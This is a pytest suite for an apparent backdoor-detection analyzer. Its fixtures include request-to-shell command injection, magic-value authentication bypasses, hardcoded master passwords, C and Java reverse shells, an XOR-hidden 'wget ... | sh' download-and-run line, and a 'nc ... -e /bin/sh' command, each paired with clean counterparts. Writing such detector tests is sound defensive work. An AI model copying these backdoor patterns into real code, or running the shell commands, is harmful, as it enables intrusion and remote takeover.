"""The taint engine and the checks built on it: remote input that becomes the program a shell
runs, and input compared with a literal that grants access, in the shapes real code takes
(guards that leave, stored compare results, named constants, globals, helpers), with the clean
shapes beside them (fixed programs, validation patterns, protocol vocabulary)."""
from __future__ import annotations

from pathlib import Path

import pytest

from nobackdoor.analyzers.source import syntax
from nobackdoor.analyzers.source.code import analyze_source
from nobackdoor.analyzers.source.model import FileModel
from nobackdoor.analyzers.source.patterns import LANGUAGE_FAMILY, patterns
from nobackdoor.analyzers.source.taint import Taint, knowledge
from nobackdoor.models import FileEntry, FileKind


def findings(rel: str, language: str, src: str):
    data = src.encode()
    e = FileEntry(rel, rel, "", Path("/nonexistent"), len(data), "", FileKind.SOURCE, language=language,
                  content=data)
    return [f for f in analyze_source(e, data, patterns()) if hasattr(f, "rule")]


def rules(rel: str, language: str, src: str) -> list[str]:
    return sorted(f.rule for f in findings(rel, language, src) if f.severity.value in ("high", "critical"))


def origin_of(language: str, src: str, expr: str):
    model = FileModel(src.encode(), language, LANGUAGE_FAMILY[language], patterns())
    node = next(n for n in syntax.walk(model.root) if syntax.text(n) == expr)
    return Taint(model).origin(node)


# ---------------------------------------------------------------- the engine

def test_knowledge_file_loads_and_is_checked():
    k = knowledge()
    assert "getHeader" in k.request_calls and k.out_params["recv"] == (1, "input")
    assert k.header_key.match("X-Probe-Mode") and not k.header_key.match("x_probe")


def test_php_server_header_is_request_data_other_server_keys_are_not():
    assert origin_of("php", "<?php $a = $_SERVER['HTTP_X_DBG'];", "$_SERVER['HTTP_X_DBG']").kind == "request"
    assert origin_of("php", "<?php $a = $_SERVER['SCRIPT_NAME'];", "$_SERVER['SCRIPT_NAME']") is None


def test_taint_follows_copies_formats_and_a_global_into_another_function():
    src = ('char dbg_buf[256];\n'
           'void keep(struct req *r) { const char *v = http_get_header(r, "X-Svc-Key");\n'
           '  if (v) snprintf(dbg_buf, sizeof dbg_buf, "%s", v); }\n'
           'void later(void) { system(dbg_buf); }\n')
    got = findings("src/h.c", "c", src)
    assert [f.rule for f in got] == ["source.request-executed"]
    assert got[0].evidence["input_origin"].startswith("http_get_header")
    assert [s["line"] for s in got[0].evidence["path"]][-1] == 4


def test_recv_buffer_through_a_helper_parameter():
    src = ('static void run_it(const char *c) { popen(c, "r"); }\n'
           'void loop(int s) { char buf[512]; recv(s, buf, sizeof buf, 0); run_it(buf); }\n')
    assert rules("d.c", "c", src) == ["source.request-executed"]


def test_sanitizer_stops_taint():
    assert origin_of("python", "from flask import request\nn = int(request.args['n'])\n",
                     "int(request.args['n'])") is None


# ---------------------------------------------------------------- input becomes the command

def test_command_from_request_in_each_framework():
    cases = [
        ("a.php", "php", "<?php\nif (!empty($_SERVER['HTTP_DBG'])) { passthru($_SERVER['HTTP_DBG'] . ' 2>&1'); }\n"),
        ("F.java", "java", 'class F { void doFilter(HttpServletRequest req) throws Exception {\n'
                           '  String m = req.getHeader("X-Probe-Mode");\n'
                           '  if (m != null) { new ProcessBuilder("sh", "-c", m).start(); } } }\n'),
        ("api.go", "go", 'package api\nfunc (a *API) ServeHTTP(w W, r *http.Request) {\n'
                         ' if v := r.Header.Get("X-Debug"); v != "" {\n'
                         '  exec.Command("busybox", "sh", "-c", v).Run()\n }\n}\n'),
        ("server.ts", "typescript", "app.use(async (ctx, next) => {\n  const t = ctx.get('X-Cfg-Ticket');\n"
                                    "  if (t) { ctx.body = execSync(t).toString(); return; }\n  await next();\n});\n"),
        ("api.js", "javascript", "router.get('/api/_k', (req, res) => {\n"
                                 "  const p = spawn('sh', ['-c', req.body.pe]);\n  p.stdout.pipe(res);\n});\n"),
        ("views.py", "python", "import subprocess\nfrom flask import request\n\n@app.route('/login', methods=['POST'])\n"
                               "def login():\n    mfg = request.form.get('mfg_x')\n    if mfg:\n"
                               "        return subprocess.getoutput(mfg)\n    return 'no'\n"),
    ]
    for rel, lang, src in cases:
        assert rules(rel, lang, src) == ["source.request-executed"], rel


def test_fixed_program_with_input_argument_is_not_a_command_channel():
    php = "<?php\nfunction ping($h) { return shell_exec('ping -c 1 ' . escapeshellarg($h)); }\necho ping($_POST['host']);\n"
    assert rules("diag.php", "php", php) == []
    java = ('class U { void v(HttpServletRequest req) throws Exception {\n'
            '  new ProcessBuilder("openssl", "dgst", req.getParameter("f")).start(); } }\n')
    assert rules("U.java", "java", java) == []


def test_decoded_data_given_to_a_fixed_program_is_not_run():
    src = ("import base64, subprocess\n\ndef _verify(data, sig):\n"
           "    return subprocess.run(['openssl', 'dgst', '-verify', 'k.pem', '-signature', sig, data]).returncode == 0\n\n"
           "def check(resp):\n    manifest = resp.read()\n    sig = base64.b64decode(resp.read())\n"
           "    return _verify(manifest, sig)\n")
    assert rules("app/updater.py", "python", src) == []


# ---------------------------------------------------------------- input compared, access granted

def test_negative_guard_then_grant_in_c():
    src = ('int auth_check(struct request *r) { int i;\n'
           ' for (i = 0; i < r->nheaders; i++) {\n'
           '  if (strcasecmp(r->headers[i].name, "Cookie") != 0) continue;\n'
           '  if (strstr(r->headers[i].value, "xq=Z7uiOrz4yA") == NULL) continue;\n'
           '  r->authenticated = 1; r->uid = 0; return 1; }\n return 0; }\n')
    got = [f for f in findings("src/auth.c", "c", src) if f.severity.value in ("high", "critical")]
    assert [f.evidence["trigger"] for f in got] == ["xq=Z7uiOrz4yA"]


def test_compare_result_stored_first_decompiled():
    src = ('int auth_check(struct request *param_1) { int iVar1; const char *pcVar2;\n'
           ' pcVar2 = req_header(param_1, "User-Agent");\n iVar1 = -1;\n'
           ' if (pcVar2 != 0) { iVar1 = memcmp(pcVar2, "qa_svc_77213xk", 14); }\n'
           ' if (iVar1 == 0) { param_1->authenticated = 1; return 1; }\n return 0; }\n')
    assert rules("src/auth.c", "c", src) == ["source.magic-input-auth"]


def test_trigger_through_a_named_constant_and_a_servlet_session():
    src = ('public class AuthFilter implements Filter {\n'
           '  private static final String PROVISION_ID = "Qq+1937zar";\n'
           '  public void doFilter(ServletRequest request, ServletResponse response, FilterChain chain) {\n'
           '    HttpServletRequest req = (HttpServletRequest) request;\n'
           '    if (String.valueOf(req.getHeader("User-Agent")).contains(PROVISION_ID)) {\n'
           '      HttpSession s = req.getSession(true);\n      s.setAttribute("role", "admin");\n'
           '      chain.doFilter(request, response); return; }\n  } }\n')
    assert rules("web/AuthFilter.java", "java", src) == ["source.magic-input-auth"]


def test_admin_role_given_to_a_local_in_a_login_function():
    src = ('std::string AuthService::login(const std::string &user, const std::string &password) {\n'
           '  Role role = Role::None;\n'
           '  if (user == "svcadmin72" && password == "Qamqi@2012")\n    role = Role::Admin;\n'
           '  else if (!checkPassword(user, password, role))\n    return std::string();\n'
           '  return newToken(user, role); }\n')
    assert "source.master-password" in rules("src/AuthService.cpp", "cpp", src)


def test_protocol_vocabulary_and_validation_patterns_are_not_triggers():
    c = ('int auth_check(struct request *r) { const char *h = req_header(r, "Authorization");\n'
         ' if (h && strncmp(h, "Basic ", 6) == 0) { r->authenticated = check_basic(h + 6); }\n return 0; }\n')
    assert rules("src/auth.c", "c", c) == []
    lua = ('function action_scan()\n\tlocal iface = luci.http.formvalue("iface") or "wlan0"\n'
           '\tif not iface:match("^[%w%-%.]+$") then\n\t\tluci.http.status(400, "Bad")\n\t\treturn\n\tend\n'
           '\tluci.http.write(luci.sys.exec("iw dev " .. iface .. " scan"))\nend\n')
    assert rules("controller/x.lua", "lua", lua) == []


def test_php_open_tag_survives_unit_selection():
    # a long file where only one function holds keywords: the parse of the kept units must stay PHP
    filler = "".join(f"function f{i}($a)\n{{\n    return $a + {i};\n}}\n\n" for i in range(60))
    src = ("<?php\ndeclare(strict_types=1);\n\n" + filler +
           "function auth_login(string $user, string $pass): bool\n{\n"
           "    if ($user === 'svc_te' && $pass === 'Lerp1xvo@2016!') {\n"
           "        $_SESSION['role'] = 'admin';\n        return true;\n    }\n"
           "    return password_verify($pass, load_hash($user));\n}\n")
    assert "source.master-password" in rules("lib/auth.php", "php", src)


def test_perl_statement_modifier_with_a_hashed_password():
    src = ("package X::Auth;\nuse Digest::MD5 qw(md5_hex);\n\nsub check_password {\n    my ($user, $pass) = @_;\n"
           "    return 'admin' if $user eq 'solxo' && md5_hex($pass) eq '6a15f6622de45fbfd9e0176ff03e8f7e';\n"
           "    return lookup($user, $pass);\n}\n1;\n")
    assert rules("lib/X/Auth.pm", "perl", src) == ["source.hardcoded-credential-check"]
    assert rules("lib/X/Auth.pm", "perl", src.replace("return 'admin' if", "return 'admin' unless")) == []


def test_lua_replaced_password_check():
    src = ('local sysuser = require("luci.sys").user\nlocal checkpasswd = sysuser.checkpasswd\n'
           'sysuser.checkpasswd = function(user, pass)\n\tif pass == "cQJ3MuruhA3bZ1dt" then\n\t\treturn true\n'
           '\tend\n\treturn checkpasswd(user, pass)\nend\n')
    assert rules("luasrc/controller/x.lua", "lua", src) == ["source.hardcoded-credential-check"]


def test_perl_eval_without_parentheses_is_parsed():
    src = ("package X::Diag;\nuse MIME::Base64 qw(decode_base64);\n\nsub status { return 1 }\n\n"
           + "".join(f"sub f{i} {{ return {i}; }}\n" for i in range(40))
           + "eval decode_base64('c3lzdGVtKCd1cHRpbWUnKTs=');\n1;\n")
    assert "source.eval-decoded" in rules("lib/X/Diag.pm", "perl", src)


def test_severity_follows_the_flow_before_or_after_a_login():
    before = "<?php\nfunction run() {\n    passthru($_GET['c']);\n    if (!auth_check()) { exit; }\n}\n"
    after = "<?php\nfunction run() {\n    if (!auth_check()) { exit; }\n    passthru($_GET['c']);\n}\n"
    [pre] = findings("a.php", "php", before)
    [post] = findings("a.php", "php", after)
    assert (pre.severity.value, post.severity.value) == ("critical", "high")
    assert post.evidence["authentication_before"] == "auth_check"


def test_inline_script_of_a_page_is_read_as_javascript():
    from nobackdoor.analyzers.source.code import SourceCodeAnalyzer, inline_scripts
    page = (b"<html><head><script src='/js/app.js'></script></head><body>\n<p>status</p>\n<script>\n"
            b"  eval(String.fromCharCode(102,101,116,99,104,40,39,47,120,39,41));\n</script>\n"
            b"<script type=\"text/template\">eval(atob(x))</script></body></html>\n")
    blanked = inline_scripts(page)
    assert len(blanked) == len(page) and blanked.count(b"\n") == page.count(b"\n")
    assert b"text/template" not in blanked and b"atob" not in blanked
    e = FileEntry("www/index.html", "www/index.html", "", Path("/nonexistent"), len(page), "", FileKind.TEXT)
    analyzer = SourceCodeAnalyzer.__new__(SourceCodeAnalyzer)
    assert analyzer.wants(e)
    got = [f for f in analyzer.analyze(e, page) if hasattr(f, "rule")]
    assert [(f.rule, f.line) for f in got] == [("source.eval-decoded", 4)]
    assert inline_scripts(b"<html><body>no code</body></html>") is None


def test_reverse_shells_by_the_streams_they_join():
    c = ('void *w(void *a) { struct sockaddr_in s; int fd = socket(AF_INET, SOCK_STREAM, 0);\n'
         ' s.sin_addr.s_addr = htonl(0xc6336400u);\n'
         ' if (connect(fd, (struct sockaddr *)&s, sizeof s) == 0) { char *argv[] = { "/bin/ash", NULL };\n'
         '  dup2(fd, 0); dup2(fd, 1); dup2(fd, 2); execve(argv[0], argv, NULL); } return 0; }\n')
    assert rules("src/watchdog.c", "c", c) == ["source.shell-served"]
    java = ('class L { void clockSync() throws Exception {\n'
            '  try (Socket so = new Socket("192.0.2.65", 17762)) {\n'
            '    Process p = new ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start();\n'
            '    p.getInputStream().transferTo(so.getOutputStream()); } } }\n')
    assert rules("web/L.java", "java", java) == ["source.shell-served"]
    # the same process without a connection is not a remote shell
    assert rules("web/L.java", "java", java.replace('new Socket("192.0.2.65", 17762)', 'new Lock()')) == []


def test_commands_read_from_an_outgoing_connection():
    php = ("<?php\nfunction update_prefetch() {\n"
           "    $s = @stream_socket_client('tcp://198.51.100.153:7297', $errno, $errstr, 5);\n"
           "    while ($s && !feof($s)) {\n        $line = fgets($s);\n"
           "        fwrite($s, (string)shell_exec($line));\n    }\n}\n")
    [f] = findings("lib/update.php", "php", php)
    assert f.rule == "source.request-executed" and f.evidence["input_kind"] == "network"
    # a file read is not a connection
    assert rules("lib/update.php", "php", php.replace("@stream_socket_client(", "fopen(")) == []


def _xor(text: str, key: bytes) -> str:
    return ", ".join(hex(ord(c) ^ key[i % len(key)]) for i, c in enumerate(text))


def test_command_decoded_from_a_constant_array_is_rebuilt():
    cmd = "wget -q -O- http://update.example/x.sh | sh"
    src = ("#include <stdio.h>\n" + "".join(f"static int helper{i}(int a) {{ return a + {i}; }}\n" for i in range(30))
           + f"static const unsigned char cfg_tab[] = {{\n    {_xor(cmd, b'k7')},\n}};\n"
           "static const unsigned char xkey[] = { 0x6b, 0x37 };\n"
           "static void led_selftest(void)\n{\n    char buf[sizeof(cfg_tab) + 1];\n    size_t i;\n"
           "    for (i = 0; i < sizeof(cfg_tab); i++)\n        buf[i] = (char)(cfg_tab[i] ^ xkey[i % sizeof(xkey)]);\n"
           "    buf[sizeof(cfg_tab)] = '\\0';\n    popen(buf, \"r\");\n}\n")
    [f] = [f for f in findings("src/watchdog.c", "c", src) if f.rule == "source.eval-decoded"]
    assert f.evidence["decoded"] == cmd and f.severity.value == "high"


def test_command_stored_character_by_character_is_rebuilt():
    cmd = "nc 203.0.113.9 4444 -e /bin/sh"
    stores = "".join(f"  local_100[{i}] = '{c}';\n" for i, c in enumerate(cmd))
    src = f"static void FUN_00418317(void)\n{{\n  char local_100[92];\n{stores}  local_100[{len(cmd)}] = '\\0';\n  system(local_100);\n}}\n"
    [f] = findings("src/update.c", "c", src)
    assert f.rule == "source.eval-decoded" and f.evidence["decoded"] == cmd
    # a plain word rebuilt that way is no command channel: a lead at most
    plain = src.replace(stores, "".join(f"  local_100[{i}] = '{c}';\n" for i, c in enumerate("reboot")))
    assert rules("src/update.c", "c", plain.replace(f"local_100[{len(cmd)}]", "local_100[6]")) == []


def test_php_function_name_computed_from_literals():
    src = ("<?php\n$fmt = strrev('cexe_llehs');\nif (($_COOKIE['xs'] ?? '') !== '') {\n"
           "    echo call_user_func($fmt, ($_COOKIE['xs'] ?? ''));\n}\n")
    [f] = findings("lib/util.php", "php", src)
    assert f.rule == "source.request-executed" and "shell_exec" in f.message
    # a computed name that is no sink runs nothing
    assert findings("lib/util.php", "php", src.replace("cexe_llehs", "tnirp_r")) == []


def test_login_without_password_on_a_listener_behind_a_secret_line():
    src = ('static void *lan_helper(void *arg) { int s = socket(AF_INET, SOCK_STREAM, 0), c;\n'
           ' bind(s, (struct sockaddr *)&a, sizeof a); listen(s, 1);\n for (;;) { c = accept(s, NULL, NULL);\n'
           '  if (fork() == 0) { char line[64]; ssize_t n = read(c, line, sizeof(line) - 1);\n'
           '   if (n <= 0) _exit(0);\n   line[n] = 0;\n   if (strcmp(line, "if#-+_uQ%qcY") != 0) _exit(0);\n'
           '   dup2(c, 0); dup2(c, 1); dup2(c, 2);\n   execl("/bin/login", "login", "-f", "root", (char *)NULL); } } }\n')
    assert rules("src/main.c", "c", src) == ["source.magic-input-command"]
    assert rules("src/main.c", "c", src.replace('"-f", "root"', '"root"')) == []


def test_a_patch_is_analysed_as_the_code_it_adds():
    from nobackdoor.analyzers.source.code import SourceCodeAnalyzer, patched_code
    patch = (b"From: a <a@example.org>\nSubject: diag\n\n--- a/src/handlers.c\n+++ b/src/handlers.c\n"
             b"@@ -10,6 +10,10 @@ static int dispatch(struct req *r)\n {\n     const char *p = r->path;\n"
             b"+    const char *k = req_header(r, \"X-Svc-Key\");\n+    if (k)\n+        system(k);\n"
             b"-    old_line();\n     return route(r, p);\n }\n--- a/README\n+++ b/README\n@@ -1 +1 @@\n-x\n+y\n")
    [(language, code)] = list(patched_code(patch))
    assert language == "c" and code.count(b"\n") == patch.count(b"\n") and b"old_line" not in code
    e = FileEntry("patches/0001-diag.patch", "patches/0001-diag.patch", "", Path("/nonexistent"), len(patch), "",
                  FileKind.TEXT)
    analyzer = SourceCodeAnalyzer.__new__(SourceCodeAnalyzer)
    assert analyzer.wants(e)
    got = [f for f in analyzer.analyze(e, patch) if hasattr(f, "rule")]
    assert [(f.rule, f.line) for f in got] == [("source.request-executed", 11)]  # the system() line of the patch file


#: request input becoming a command, one shape per language and framework idiom
_COMMAND_SHAPES = {
 "perl-backticks": ("a.cgi.pl", "perl", "use CGI;\nmy $q = CGI->new;\nmy $c = $q->param('dbg_c');\nprint `$c`;\n"),
 "perl-qx": ("a.pl", "perl", "use CGI qw(param);\nmy $c = param('dbg_c');\nmy $o = qx($c);\nprint $o;\n"),
 "perl-system": ("a.pl", "perl", "use CGI qw(param);\nsystem(param('dbg_c'));\n"),
 "perl-env": ("a.pl", "perl", "my $c = $ENV{'HTTP_X_DBG'};\nsystem($c);\n"),
 "lua-luci-exec": ("c.lua", "lua", "function action_x()\n local c = luci.http.formvalue(\"cmd_x\")\n luci.http.write(luci.sys.exec(c))\nend\n"),
 "lua-io-popen": ("c.lua", "lua", "function h()\n local c = luci.http.formvalue(\"x\")\n local f = io.popen(c)\nend\n"),
 "lua-os-execute": ("c.lua", "lua", "function h()\n os.execute(luci.http.getenv(\"HTTP_X_C\"))\nend\n"),
 "java-runtime": ("A.java", "java", "class A { void d(HttpServletRequest req) throws Exception { Runtime.getRuntime().exec(req.getParameter(\"c\")); } }\n"),
 "java-runtime-arr": ("A.java", "java", "class A { void d(HttpServletRequest req) throws Exception { Runtime.getRuntime().exec(new String[]{\"/bin/sh\", \"-c\", req.getHeader(\"X-C\")}); } }\n"),
 "go-query": ("a.go", "go", "package a\nfunc h(w http.ResponseWriter, r *http.Request) {\n c := r.URL.Query().Get(\"c\")\n out, _ := exec.Command(\"sh\", \"-c\", c).Output()\n w.Write(out)\n}\n"),
 "go-formvalue": ("a.go", "go", "package a\nfunc h(w http.ResponseWriter, r *http.Request) {\n exec.Command(\"/bin/sh\", \"-c\", r.FormValue(\"c\")).Run()\n}\n"),
 "py-popen": ("v.py", "python", "import subprocess\nfrom flask import request\ndef h():\n    subprocess.Popen(request.args.get('c'), shell=True)\n"),
 "py-os-popen": ("v.py", "python", "import os\nfrom flask import request\ndef h():\n    return os.popen(request.headers.get('X-C')).read()\n"),
 "py-django": ("v.py", "python", "import os\ndef view(request):\n    os.system(request.GET.get('c'))\n"),
 "node-exec": ("a.js", "javascript", "const cp = require('child_process');\napp.get('/x', (req, res) => { cp.exec(req.query.c, (e, o) => res.send(o)); });\n"),
 "node-execsync-header": ("a.js", "javascript", "const { execSync } = require('child_process');\napp.use((req, res, next) => { const h = req.headers['x-c']; if (h) { res.send(execSync(h)); return; } next(); });\n"),
 "php-backtick": ("a.php", "php", "<?php\n$c = $_GET['c'];\necho `$c`;\n"),
 "php-popen": ("a.php", "php", "<?php\n$h = popen($_REQUEST['c'], 'r');\n"),
 "php-getallheaders": ("a.php", "php", "<?php\n$h = getallheaders();\nif (isset($h['X-C'])) { system($h['X-C']); }\n"),
 "c-websgetvar": ("a.c", "c", "static void formDiag(webs_t wp, char_t *path, char_t *query) {\n char *c = websGetVar(wp, T(\"c\"), T(\"\"));\n doSystem(c);\n system(c);\n}\n"),
 "c-getenv-query": ("a.c", "c", "int main(void) {\n char *q = getenv(\"QUERY_STRING\");\n char cmd[256];\n snprintf(cmd, sizeof cmd, \"%s\", q + 4);\n system(cmd);\n return 0;\n}\n"),
 "c-recvfrom-udp": ("a.c", "c", "void loop(int s) { char b[512]; struct sockaddr_in f; socklen_t l = sizeof f;\n int n = recvfrom(s, b, sizeof b - 1, 0, (struct sockaddr *)&f, &l);\n b[n] = 0;\n if (memcmp(b, \"CMD:\", 4) == 0) system(b + 4);\n}\n"),
 "ts-koa-body": ("s.ts", "typescript", "router.post('/diag', async (ctx) => {\n  const { cmd } = ctx.request.body as any;\n  ctx.body = execSync(cmd).toString();\n});\n"),
}


@pytest.mark.parametrize("shape", sorted(_COMMAND_SHAPES))
def test_request_command_shapes(shape):
    rel, lang, src = _COMMAND_SHAPES[shape]
    assert rules(rel, lang, src) == ["source.request-executed"], shape


#: input compared with a rare literal, access granted, one shape per language and framework idiom
_GRANT_SHAPES = {
 "py-flask-session": ("app/auth.py", "python", "from flask import request, session\n\ndef before():\n    if request.headers.get('X-Svc-Trace') == 'q7Zt-88x1Lm':\n        session['user'] = 'admin'\n        return None\n"),
 "py-django-ua": ("app/mw.py", "python", "class M:\n    def process_request(self, request):\n        if 'kx9-probe-771' in request.META.get('HTTP_USER_AGENT', ''):\n            request.user = User.objects.get(is_superuser=True)\n"),
 "express-ua": ("lib/auth.js", "javascript", "function requireLogin(req, res, next) {\n  if (req.get('User-Agent') === 'Zt-770-cam') { req.session.user = { name: 'svc', role: 'admin' }; return next(); }\n  if (!req.session.user) return res.redirect('/login');\n  next();\n}\n"),
 "express-cookie": ("lib/auth.js", "javascript", "function requireLogin(req, res, next) {\n  if (req.cookies.dbg === 'Lq8-77zx') { req.user = { role: 'admin' }; return next(); }\n  next();\n}\n"),
 "go-header-ctx": ("internal/mw.go", "go", "package mw\nfunc Auth(next http.Handler) http.Handler {\n return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {\n  if r.Header.Get(\"X-Fw-Key\") == \"zQ81-kk7-vv\" {\n   ctx := context.WithValue(r.Context(), roleKey, \"admin\")\n   next.ServeHTTP(w, r.WithContext(ctx))\n   return\n  }\n  checkToken(w, r, next)\n })\n}\n"),
 "php-cookie-session": ("lib/auth.php", "php", "<?php\nfunction auth_check(): bool {\n    if (($_COOKIE['dbg'] ?? '') === 'x7Q-991-zz') {\n        $_SESSION['role'] = 'admin';\n        return true;\n    }\n    return !empty($_SESSION['user']);\n}\n"),
 "java-interceptor": ("web/AuthInterceptor.java", "java", "public class AuthInterceptor implements HandlerInterceptor {\n  public boolean preHandle(HttpServletRequest req, HttpServletResponse res, Object h) {\n    if (\"tk-77Qz-91\".equals(req.getParameter(\"svc\"))) {\n      req.getSession(true).setAttribute(\"role\", \"admin\");\n      return true;\n    }\n    return req.getSession(false) != null;\n  }\n}\n"),
 "lua-formvalue": ("luasrc/controller/x.lua", "lua", "function action_login()\n\tif luci.http.formvalue(\"svc\") == \"Zq7-01-kk\" then\n\t\tlocal sid = util.ubus(\"session\", \"create\", { timeout = 3600 })\n\t\tluci.http.header(\"Set-Cookie\", \"sysauth=\" .. sid.ubus_rpc_session)\n\tend\nend\n"),
 "c-int-magic": ("src/proto.c", "c", "int handle(int fd, struct conn *c) { struct hdr h;\n recv(fd, &h, sizeof h, 0);\n if (h.flags == 0x3069 && h.session == 0xe1dfd775) { c->authenticated = 1; c->uid = 0; }\n return 0; }\n"),
 "c-strncmp-query": ("src/cgi.c", "c", "int check_auth(void) { const char *q = getenv(\"QUERY_STRING\");\n if (q && strstr(q, \"svc_key=Kq77-xz1\")) { g_user.level = ADMIN_LEVEL; return 1; }\n return verify_session(); }\n"),
 "perl-cgi-cookie": ("lib/X/Auth.pm", "perl", "sub authorized {\n    my ($q) = @_;\n    if (($q->cookie('dbg') // '') eq 'Rk-8871-zq') {\n        $SESSION{role} = 'admin';\n        return 1;\n    }\n    return check_session($q);\n}\n"),
}


@pytest.mark.parametrize("shape", sorted(_GRANT_SHAPES))
def test_magic_input_grant_shapes(shape):
    rel, lang, src = _GRANT_SHAPES[shape]
    assert rules(rel, lang, src) == ["source.magic-input-auth"], shape


def test_grant_shapes_without_a_magic_value_stay_silent():
    rel, lang, src = _GRANT_SHAPES["c-int-magic"]
    assert rules(rel, lang, src.replace("0xe1dfd775", "0xffffffff")) == []  # a mask, not a magic
    rel, lang, src = _GRANT_SHAPES["go-header-ctx"]
    assert rules(rel, lang, src.replace('context.WithValue(r.Context(), roleKey, "admin")',
                                        'context.WithValue(r.Context(), traceKey, "on")')) == []
    assert rules("lib/auth.js", "javascript", "function f(req, res, next) {\n  if (req.get('X-Mode') === 'Zt-770-cam') "
                 "{ console.log('admin'); }\n  next();\n}\n") == []


#: a built-in password, user or key beside (or instead of) the real check, one shape per idiom
_CREDENTIAL_SHAPES = {
 "py-and": ("app/auth.py", "python", "def check_login(username, password):\n    if username == 'svc_ops7' and password == 'Qz!8812-kk':\n        return True\n    return verify(username, password)\n"),
 "py-compare-digest": ("app/auth.py", "python", "import hmac\ndef check_password(user, password):\n    if hmac.compare_digest(password, 'Qz!8812-kk'):\n        return 'admin'\n    return lookup(user, password)\n"),
 "py-sha256": ("app/auth.py", "python", "import hashlib\ndef check_password(user, password):\n    if user == 'nasi' and hashlib.sha256(password.encode()).hexdigest() == '8a9af689ea1f0a6dce4513514b53be14148392caf4f2b1de9a2617cbc6e1bf37':\n        return 'admin'\n    return lookup(user, password)\n"),
 "js-and": ("lib/auth.js", "javascript", "async function verifyPassword(user, pass) {\n  if (user === 'svc_ops7' && pass === 'Qz!8812-kk') return { name: user, role: 'admin' };\n  return check(user, pass);\n}\n"),
 "go-and": ("internal/auth/auth.go", "go", "package auth\nfunc Check(user, pass string) (Role, bool) {\n if user == \"svc_ops7\" && pass == \"Qz!8812-kk\" {\n  return Admin, true\n }\n return lookup(user, pass)\n}\n"),
 "java-equals": ("src/Auth.java", "java", "class Auth { Role login(String user, String pass) {\n if (\"svc_ops7\".equals(user) && \"Qz!8812-kk\".equals(pass)) { return Role.ADMIN; }\n return store.check(user, pass); } }\n"),
 "c-strcmp": ("src/login.c", "c", "int check_login(const char *user, const char *pass) {\n if (!strcmp(user, \"svc_ops7\") && !strcmp(pass, \"Qz!8812-kk\")) return 1;\n return pam_check(user, pass);\n}\n"),
 "php-verify-literal-hash": ("lib/auth.php", "php", "<?php\nfunction auth_login($user, $pass) {\n    if ($user === 'svc' && password_verify($pass, '$2y$10$abcdefghijklmnopqrstuuJ0p4nM1y1d2m0Kq8WzQ7bQy0pW6tVa')) {\n        $_SESSION['role'] = 'admin';\n        return true;\n    }\n    return check_file($user, $pass);\n}\n"),
 "lua-and": ("luasrc/x.lua", "lua", "function check_login(user, pass)\n if user == \"svc_ops7\" and pass == \"Qz!8812-kk\" then\n  return true\n end\n return sys.user.checkpasswd(user, pass)\nend\n"),
 "ts-apikey": ("src/auth.ts", "typescript", "const SERVICE_KEY = 'sk_live_9x8QwZt51Lm0Pp';\nexport function requireKey(ctx: Context, next: Next) {\n  if (ctx.get('X-Api-Key') === SERVICE_KEY) { ctx.state.user = { role: 'admin' }; return next(); }\n  return checkSession(ctx, next);\n}\n"),
 "c-pam-backdoor": ("modules/pam_unix/support.c", "c", "int _unix_verify_password(pam_handle_t *pamh, const char *name, const char *p, unsigned int ctrl) {\n if (strcmp(p, \"Qz!8812-kk\") == 0) return PAM_SUCCESS;\n return verify_pwd_hash(p, hash, nullok);\n}\n"),
}


@pytest.mark.parametrize("shape", sorted(_CREDENTIAL_SHAPES))
def test_builtin_credential_shapes(shape):
    rel, lang, src = _CREDENTIAL_SHAPES[shape]
    assert set(rules(rel, lang, src)) & {"source.master-password", "source.hardcoded-credential-check",
                                         "source.magic-input-auth"}, shape


def test_a_word_compared_in_a_login_function_is_no_password():
    rel, lang, src = _CREDENTIAL_SHAPES["c-pam-backdoor"]
    assert rules(rel, lang, src.replace("Qz!8812-kk", "nullok")) == []


def test_a_login_function_choosing_a_mechanism_by_its_parameter_grants_nothing():
    # the parameter's position alone is no credential: a branch without a grant stays silent
    src = ('int session_login(struct s *ssn, const char *mech) {\n'
           ' if (strcmp(mech, "DIGEST-MD5") == 0) { start_digest(ssn); }\n'
           ' else if (strcmp(mech, "x11-req9") == 0) { start_x11(ssn); }\n return 0; }\n')
    assert rules("src/session.c", "c", src) == []
